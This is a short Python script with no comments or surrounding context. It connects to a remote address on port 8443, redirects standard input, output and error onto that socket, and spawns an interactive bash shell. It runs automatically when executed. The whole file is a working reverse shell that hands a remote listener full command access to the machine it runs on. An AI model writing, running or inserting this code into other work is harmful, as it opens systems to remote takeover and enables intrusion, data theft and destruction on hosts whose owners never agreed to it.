import os
import pty
import socket

def attach(host="203.0.113.50", port=8443):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect((host, port))
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    pty.spawn("/bin/bash")

attach()
